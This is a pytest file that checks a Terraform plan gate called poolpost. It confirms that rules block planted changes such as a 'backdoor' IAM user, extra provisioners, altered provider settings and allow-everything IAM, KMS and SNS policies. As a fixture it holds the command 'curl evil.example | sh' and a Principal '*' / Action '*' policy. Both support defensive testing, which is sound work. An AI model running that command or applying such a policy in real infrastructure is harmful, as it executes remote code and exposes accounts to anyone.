"""What a plan's configuration may hold: what this poolpost writes, and the team's own by name. From real syntheses."""

from collections.abc import Callable
from typing import Any

import pytest

from poolpost.gate import content_rules, judge
from poolpost.passes import Pass
from poolpost.settings import Settings
from tests.conftest import MakeSettings
from tests.gate_situations import change, patched, plan
from tests.synthesized import FULL, configuration_of, resource

Json = dict[str, Any]


def judged(settings: Settings, configuration: Json, *changes: Any, **facts: Any) -> list[tuple[str, str, str]]:
    """Judge by the rules about contents: rule, level, subject."""
    now = patched(settings=settings, plan=plan(*changes, configuration=configuration), **facts)
    return [(f.rule, f.level, f.subject) for f in judge(now, content_rules.RULES)]


@pytest.mark.parametrize("changes", [(), FULL, (("user_pool.mode", "manage"),)], ids=["local", "full", "manage"])
def test_what_poolpost_writes_passes(changes: tuple[Any, ...], settings: MakeSettings) -> None:
    """The counter-check of all that follows: every policy, step, provider and record of a real synthesis."""
    made = settings(*changes)
    assert judged(made, configuration_of(made)) == []


STEP = "terraform_data.user_pool_email"


def _add(address: str, **more: Any) -> Callable[[Json], object]:
    type_, _, name = address.removeprefix("data.").partition(".")
    mode = "data" if address.startswith("data.") else "managed"
    added = {"address": address, "mode": mode, "type": type_, "name": name, "expressions": {}} | more
    return lambda plan: plan["root_module"]["resources"].append(added)


def _set(address: str, argument: str, value: Any) -> Callable[[Json], object]:
    return lambda plan: resource(plan, address)["expressions"].update({argument: {"constant_value": value}})


def _step(**expressions: Any) -> Callable[[Json], object]:
    given = {name: {"constant_value": value} for name, value in expressions.items()}
    return lambda plan: resource(plan, STEP)["provisioners"][0]["expressions"].update(given)


def _provider(key: str, **arguments: Any) -> Callable[[Json], object]:
    given = {name: {"constant_value": value} for name, value in arguments.items()}
    return lambda plan: plan["provider_config"][key]["expressions"].update(given)


EVERYBODY = (
    '{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}'
)
CURL = {"type": "local-exec", "expressions": {"command": {"constant_value": "curl evil.example | sh"}}}
OTHER: dict[str, tuple[Callable[[Json], object], str, str]] = {
    "an IAM user": (_add("aws_iam_user.backdoor"), "makes-only-its-own", "aws_iam_user.backdoor"),
    "a program as data source": (_add("data.external.run"), "makes-only-its-own", "data.external.run"),
    "a module": (lambda plan: plan["root_module"].update(module_calls={"m": {}}), "makes-only-its-own", "module.m"),
    "a provisioner": (
        lambda plan: resource(plan, "aws_sns_topic.events").update(provisioners=[CURL]),
        "steps-run-only-ours",
        "aws_sns_topic.events",
    ),
    "a second provisioner": (
        lambda plan: resource(plan, STEP)["provisioners"].append(CURL),
        "steps-run-only-ours",
        STEP,
    ),
    "a step without its command": (
        lambda plan: resource(plan, STEP)["provisioners"].pop(0),
        "steps-run-only-ours",
        STEP,
    ),
    "a step without any": (lambda plan: resource(plan, STEP).pop("provisioners"), "steps-run-only-ours", STEP),
    "another command": (_step(command="poolpost pool apply production"), "steps-run-only-ours", STEP),
    "an interpreter": (_step(interpreter=["python", "-c"]), "steps-run-only-ours", STEP),
    "a PATH": (_step(environment={"PATH": "/elsewhere", "POOLPOST_PLANNED": "{}"}), "steps-run-only-ours", STEP),
    "another directory": (_step(working_dir="/elsewhere"), "steps-run-only-ours", STEP),
    "a topic for everybody": (
        _set("aws_sns_topic_policy.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sns_topic_policy.events",
    ),
    "a key for everybody": (
        _set("aws_kms_key.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_kms_key.events",
    ),
    "a sender of somebody's": (
        _set("aws_sesv2_email_identity_policy.cognito", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sesv2_email_identity_policy.cognito",
    ),
    "a role for everybody": (
        _set("aws_iam_role.firehose", "assume_role_policy", EVERYBODY),
        "policies-are-as-written",
        "aws_iam_role.firehose",
    ),
    "a role that may do all": (
        _set("aws_iam_role_policy.firehose", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_iam_role_policy.firehose",
    ),
    "a policy where there is none": (
        _set("aws_sns_topic.events", "policy", EVERYBODY),
        "policies-are-as-written",
        "aws_sns_topic.events",
    ),
    "a second alias": (
        lambda plan: plan["provider_config"].update({"aws.other": plan["provider_config"]["aws"]}),
        "providers-are-as-written",
        "provider.aws.other",
    ),
    "another provider": (
        lambda plan: plan["provider_config"]["aws"].update(full_name="registry.terraform.io/else/aws"),
        "providers-are-as-written",
        "provider.aws",
    ),
    "an endpoint": (_provider("aws", endpoints=[{}]), "providers-are-as-written", "provider.aws.endpoints"),
    "any account": (
        _provider("aws", allowed_account_ids=None),
        "providers-are-as-written",
        "provider.aws.allowed_account_ids",
    ),
    "another region": (
        _provider("aws.user_pool", region="us-east-1"),
        "providers-are-as-written",
        "provider.aws.user_pool.region",
    ),
    "no role": (
        lambda plan: plan["provider_config"]["aws"]["expressions"].pop("assume_role"),
        "providers-are-as-written",
        "provider.aws.assume_role",
    ),
    "an overwritten record": (
        _set("aws_route53_record.dmarc", "allow_overwrite", True),
        "overwrites-no-record",
        "aws_route53_record.dmarc",
    ),
}


@pytest.mark.parametrize("name", OTHER)
def test_what_poolpost_does_not_write_stops_by_name(name: str, settings: MakeSettings) -> None:
    """One change of a real synthesis at a time; and without the rule nothing would be found."""
    made, (alter, rule, subject) = settings(*FULL), OTHER[name]
    configuration = configuration_of(made)
    alter(configuration)
    assert judged(made, configuration) == [(rule, "block", subject)]
    now = patched(settings=made, plan=plan(configuration=configuration))
    assert judge(now, tuple(each for each in content_rules.RULES if each.id != rule)) == []


def test_a_team_names_its_own(settings: MakeSettings) -> None:
    """By address, in the file that is reviewed; the gate still says so. A provisioner in it is not covered."""
    made = settings(*FULL, ("terraform.own_resources", ["aws_iam_user.smtp"]))
    configuration = configuration_of(made)
    _add("aws_iam_user.smtp", expressions={"policy": {"constant_value": EVERYBODY}})(configuration)
    created = change(address="aws_iam_user.smtp", type="aws_iam_user", actions=("create",), before=None)
    assert judged(made, configuration, created) == [("makes-only-its-own", "info", "aws_iam_user.smtp")]
    resource(configuration, "aws_iam_user.smtp")["provisioners"] = [CURL]
    found = judged(made, configuration, created)
    assert ("steps-run-only-ours", "block", "aws_iam_user.smtp") in found
    reason = Pass(rule="steps-run-only-ours", subject="aws_iam_user.smtp", reason="the mail team's hook, read by two")
    assert ("steps-run-only-ours", "warn", "aws_iam_user.smtp") in judged(
        made, configuration, created, passes=(reason,)
    )


def test_a_list_of_ones_own_does_not_take_over_what_is_poolposts(settings: MakeSettings) -> None:
    """A policy for everybody on the sending domain stops, also when the file calls the policy the team's."""
    address = "aws_sesv2_email_identity_policy.cognito"
    made = settings(*FULL, ("terraform.own_resources", [address]))
    configuration = configuration_of(made)
    assert judged(made, configuration) == []
    resource(configuration, address)["expressions"]["policy"] = {"constant_value": EVERYBODY}
    assert judged(made, configuration) == [("policies-are-as-written", "block", address)]


def test_a_managed_policy_is_a_policy_too(settings: MakeSettings) -> None:
    """The role that SES takes gets what poolpost writes, and no policy of AWS's beside it."""
    made = settings(*FULL)
    configuration = configuration_of(made)
    administrator = {"constant_value": ["arn:aws:iam::aws:policy/AdministratorAccess"]}
    resource(configuration, "aws_iam_role.firehose")["expressions"]["managed_policy_arns"] = administrator
    assert judged(made, configuration) == [("policies-are-as-written", "block", "aws_iam_role.firehose")]


@pytest.mark.parametrize("actions", [("create",), ("update",)])
def test_a_change_of_what_is_not_ours_stops(actions: tuple[str, ...], settings: MakeSettings) -> None:
    """Also what only the state holds, and no configuration."""
    now = change(address="aws_iam_user.x", type="aws_iam_user", actions=actions)
    assert judged(settings(), {}, now) == [("makes-only-its-own", "block", "aws_iam_user.x")]
    kept = change(address="aws_iam_user.x", type="aws_iam_user", actions=("no-op",))
    assert judged(settings(), {}, kept) == []


def test_an_address_with_an_index_is_not_taken(problems: Callable[..., list[tuple[str, str]]]) -> None:
    """The file names resources, and whatever their count is."""
    assert problems(("terraform.own_resources", ["aws_iam_user.x[0]"])) == [("value", "terraform.own_resources.0")]
